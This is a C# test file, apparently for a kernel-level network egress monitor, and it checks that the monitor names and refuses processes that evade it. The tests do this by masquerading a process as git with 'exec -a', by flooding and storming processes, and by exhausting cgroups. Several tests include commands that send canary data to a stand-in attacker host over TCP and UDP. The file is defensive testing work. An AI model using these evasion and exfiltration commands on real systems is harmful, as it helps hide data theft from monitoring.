namespace Sallyport.Kernel.Tests;

/// <summary>Techniques B3, B5, B6: processes that hide, vanish, or are too many.</summary>
public sealed class ProcessTests(LabFixture fixture) : KernelTest(fixture), IClassFixture<LabFixture>
{
    [Theory]
    [EveryMode]
    public Task A_process_that_calls_itself_git_is_named_by_its_file(LabMode mode) => ProveAsync(mode, new Attack
    {
        Command = Command(
            "/bin/bash", "-c", $"exec -a /usr/bin/git {Program("tcp")} connect {Attacker} 4443 {Canary}") with
        {
            Policy =
                $$"""
                version: 1
                allow: [allowed.test]
                processes:
                  - match: { exe: "/usr/bin/git" }
                    allow: ["tcp://{{Attacker}}:4443"]
                """,
            Allow = [],
        },
        Row = Row.Connection("tcp", 4443, Attacker),
        Reasons = ["no-rule"],
        Exe = "tcp",
        Silent = (Attacker, 4443),
    });

    /// <summary>By the file itself and by its folder; somebody else's call to the same place is refused.</summary>
    [Theory]
    [InlineData("tcp")]
    [InlineData("**")]
    public async Task A_program_that_the_policy_names_has_rules_of_its_own(string file)
    {
        var command = Command("tcp", "connect", Attacker, "4443", Canary) with
        {
            Policy =
                $$"""
                version: 1
                allow: [allowed.test]
                processes:
                  - match: { exe: "{{Path.GetDirectoryName(Program("tcp"))}}/{{file}}" }
                    allow: ["tcp://{{Attacker}}:4443"]
                """,
            Allow = [],
        };
        var run = await PassAsync(command);
        Assert.True(run.Traffic.Contains(Canary), run.ToString());
        Assert.Contains(run.Report.Connections, row => row is { Address: Attacker, Port: 4443, Verdict: "allowed", Reason: "rule" });

        var other = await Lab.RunAsync(LabMode.Block, command with
        {
            Arguments = ["/usr/bin/python3", "-c", $"import socket; socket.create_connection(('{Attacker}', 4443), 5)"],
        });
        Assert.NotEqual(0, other.Process.ExitCode);
        Assert.Contains(other.Report.Connections, row => row is { Address: Attacker, Port: 4443, Verdict: "refused" });
    }

    [Theory]
    [EveryMode]
    public async Task An_orphan_that_is_gone_at_once_is_still_named(LabMode mode)
    {
        const int Count = 50;
        await ProveAsync(mode, new Attack
        {
            Command = Command(
                "proc", "storm", $"{Count}", Program("udp"), "sendto", Attacker, "5300", Canary),
            Row = Row.Connection("udp", 5300, Attacker),
            Reasons = ["no-rule"],
            Exe = "udp",
            Silent = (Attacker, 5300),
        });
        if (mode != LabMode.Off)
        {
            var run = await Lab.RunAsync(mode, Command(
                "proc", "storm", $"{Count}", Program("udp"), "sendto", Attacker, "5300", Canary));
            var rows = run.Report.Connections.Where(c => c is { Address: Attacker, Port: 5300 }).ToList();
            Assert.True(
                rows.Count == Count && rows.All(r =>
                    run.Report.ExeOf(r.Process)?.EndsWith("/udp", StringComparison.Ordinal) == true),
                $"{rows.Count} rows of {Count} senders.\n{run}");
        }
    }

    /// <summary>The main ring is small here, so that thousands of processes overflow it and not hundreds of thousands.</summary>
    [Theory]
    [EveryMode]
    public async Task After_a_flood_that_nobody_read_the_refusal_is_told_and_the_loss_too(LabMode mode)
    {
        var agent = "/" + Path.GetFileName(LabOptions.FromEnvironment().Product);
        var run = await Lab.RunAsync(mode, Command("proc", "flood", agent, "10000", Attacker, "4443", Canary) with
        {
            Options = ["--ring-bytes", "65536"],
            Deadline = TimeSpan.FromSeconds(60),
        });
        Assert.Equal(
            mode == LabMode.Off, run.Process.Output.Contains("\n0 stopped", StringComparison.Ordinal)
                || run.Process.Output.StartsWith("0 stopped", StringComparison.Ordinal));
        Assert.Equal(mode != LabMode.Block, run.Traffic.Contains(Canary));
        if (mode == LabMode.Off)
        {
            return;
        }

        var verdict = mode == LabMode.Block ? "refused" : "observed";
        Assert.True(
            run.Report.Connections.Any(c => c is { Address: Attacker, Port: 4443 } && c.Verdict == verdict),
            run.ToString());
        Assert.False(run.Report.Complete, $"Losses were not stated.\n{run}");
        Assert.True(run.Report.Losses.GetValueOrDefault("event-ring") > 0, run.ToString());
    }

    [Theory]
    [InlineData(LabMode.Audit)]
    [InlineData(LabMode.Block)]
    public async Task A_process_is_told_with_its_folder_its_user_and_its_end(LabMode mode)
    {
        var run = await Lab.RunAsync(mode, Script(
            $"mkdir -p {Canary} && cd {Canary}",
            "setpriv --reuid=65534 --regid=65534 --clear-groups sh -c 'true; exit 7' || echo $?",
            "sh -c 'kill -9 $$; true' || echo $?",
            "exit 5"));
        Assert.Equal("7\n137\n", run.Process.Output);
        Assert.Equal(5, run.Report.ExitCode);
        var folder = $"/run/lab/work/{Canary}";
        AssertProcess(run, "true; exit 7", folder, "65534", 7, null);
        AssertProcess(run, "kill -9 $$; true", folder, "0", null, 9);
    }

    /// <summary>More than SP_MAX_CGROUPS in the job's own.</summary>
    [Fact]
    public async Task Folders_of_cgroups_that_have_no_place_are_counted()
    {
        LabRun run = await Lab.RunAsync(LabMode.Audit, Command("/usr/bin/python3", "-c", """
            import os, sys
            me = str(os.getpid())
            own = next(folder for folder, _, _ in os.walk(sys.argv[1]) if me in open(folder + '/cgroup.procs').read().split())
            names = [f'{own}/full-{i}' for i in range(4200)]
            for name in names:
                os.mkdir(name)
            for name in names:
                os.rmdir(name)
            """, Lab.CgroupRoot));
        Assert.True(run.Process.ExitCode == 0, run.ToString());
        Assert.True(run.Report.Losses.GetValueOrDefault("cgroup-table") > 0 && !run.Report.Complete, run.ToString());
    }

    [Fact]
    public async Task Every_process_carries_its_ancestry()
    {
        var run = await Lab.RunAsync(LabMode.Audit, Command(
            "/bin/sh", "-c", $"/bin/bash -c '{Program("tcp")} connect {Attacker} 4443 {Canary}; true'; true"));
        var row = Assert.Single(run.Report.Connections, c => c.Address == Attacker);
        var names = run.Report.AncestryOf(row.Process).Select(Path.GetFileName).ToList();
        Assert.True(names is ["tcp", "bash", "sh" or "dash", ..], $"{string.Join(" < ", names)}\n{run}");
    }

    private static void AssertProcess(LabRun run, string script, string folder, string user, int? exitCode, int? signal)
    {
        var row = Assert.Single(run.Report.Processes, process => process.Argv.Count == 3 && process.Argv[2] == script);
        Assert.Equal((folder, user, exitCode, signal), (row.Cwd, row.User, row.ExitCode, row.Signal));
    }
}
